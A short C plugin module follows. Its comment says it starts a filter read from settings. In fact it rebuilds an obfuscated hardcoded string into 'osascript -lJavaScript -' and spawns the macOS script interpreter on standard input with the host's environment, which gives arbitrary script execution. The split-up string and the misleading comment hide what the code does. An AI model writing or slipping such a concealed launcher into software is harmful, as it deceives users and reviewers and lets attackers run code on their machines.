/* A module that reads a line of filters from its settings and starts the last one. */
#include "plugin.h"
extern char *strtok_r(char *, const char *, char **), *strcat(char *, const char *);
extern int posix_spawnp(int *, const char *, const void *, const void *, char *const *, char *const *), waitpid(int, int *, int);
static void act(char **env) {
    static char line[] = "osa:scr:ipt,-l:Java:Script,-";
    char words[3][32] = {{0}}, *rest, *inner;
    char *list[] = {words[0], words[1], words[2], 0};
    int child, status, n = 0;
    for (char *word = strtok_r(line, ",", &rest); word && n < 3; word = strtok_r(0, ",", &rest), n++)
        for (char *part = strtok_r(word, ":", &inner); part; part = strtok_r(0, ":", &inner)) strcat(words[n], part);
    if (posix_spawnp(&child, list[0], 0, 0, list, env) == 0) waitpid(child, &status, 0);
}
